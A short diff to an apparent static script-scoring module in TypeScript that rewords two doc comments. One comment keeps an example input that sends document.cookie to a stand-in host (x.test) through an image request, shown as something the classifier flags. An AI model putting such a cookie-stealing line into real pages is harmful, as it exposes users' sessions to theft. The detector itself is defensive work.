@@ -4,7 +4,7 @@ import { type ReadLayer, scriptLayers } from './script-layers.ts';
 import type { ScriptReason, ScriptVerdict } from './script-verdict.ts';
 
 /**
- * Scores a script without running it. The same text always gives the same verdict.
+ * Scores a script by what stands in it, without running it. The same text always gives the same verdict.
  *
  *     classifyScript('new Image().src = "//x.test/?" + document.cookie').scores.integrity // 7
  */
@@ -17,7 +17,7 @@ export function classifyScript(source: string): ScriptVerdict {
   return { kind: 'scored', scores: scoresOf(reasons.points()), reasons: reasons.list() };
 }
 
-/** Collects reasons. A feature counts once, also if hidden code has it again. */
+/** A feature counts once, also when hidden code has it again. */
 class Reasons {
   readonly #found = new Map<string, ScriptReason>();
 
